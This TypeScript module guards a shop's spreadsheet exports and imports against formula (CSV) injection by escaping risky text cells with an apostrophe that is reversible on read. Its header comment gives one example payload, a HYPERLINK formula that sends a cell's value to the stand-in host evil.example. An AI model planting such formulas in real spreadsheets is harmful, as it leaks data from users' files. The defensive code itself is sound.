/**
 * Cells of the spreadsheets the shop writes (the GSTR-1 tables, the catalogue export) and reads back
 * (the catalogue import). A spreadsheet program runs a cell that begins with `=`, `+`, `-` or `@` (and,
 * in some programs, a tab or carriage return before one) as a formula, so a buyer's company name such as
 * `=HYPERLINK("http://evil.example/?"&A2,"x")` would become a live link in the accountant's Excel
 * (OWASP "CSV injection"). Such a text cell is written with a leading apostrophe, which every spreadsheet
 * shows as text. A line feed counts with them: an .xlsx stores a carriage return as one. Columns that hold numbers (amounts, quantities, rates) keep a plain number as it is, so
 * a negative amount stays a number.
 *
 * The rule is reversible: a text beginning with apostrophes followed by one of those characters gets one
 * more apostrophe, and reading removes exactly one, so every text survives export and import unchanged
 * (`-Bright` → `'-Bright` → `-Bright`, and `'=x` → `''=x` → `'=x`).
 */

const FORMULA_START = /^'*[=+\-@\t\r\n]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/** A text cell as written: prefixed with `'` when a spreadsheet would otherwise run it as a formula. */
export function sheetText(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/**
 * A cell of a number column: a plain decimal number (`-12.50`, `18`) as it is; anything else is text and
 * neutralised like any other (a number column never carries a formula either).
 */
export function sheetNumber(value: string | number): string {
  const text = String(value);
  return PLAIN_NUMBER.test(text) ? text : sheetText(text);
}

/** A cell as read from a file: the apostrophe `sheetText` added is removed, anything else is untouched. */
export function sheetCellRead(value: string): string {
  return value.startsWith("'") && FORMULA_START.test(value) ? value.slice(1) : value;
}

/** Whether a written cell could start a formula (what the tests of every export check). */
export function startsFormula(value: string): boolean {
  return /^[=+\-@\t\r\n]/.test(value);
}

/**
 * The rows of a sheet as written: the header, then each row, every cell through `sheetText`, except the
 * cells of the columns named in `numberColumns`, which go through `sheetNumber`.
 */
export function sheetRows(
  header: readonly string[],
  rows: readonly (readonly (string | number)[])[],
  numberColumns: ReadonlySet<string>,
): string[][] {
  const isNumber = header.map((name) => numberColumns.has(name));
  return [
    header.map(sheetText),
    ...rows.map((row) =>
      row.map((cell, index) => (isNumber[index] ? sheetNumber(cell) : sheetText(String(cell)))),
    ),
  ];
}
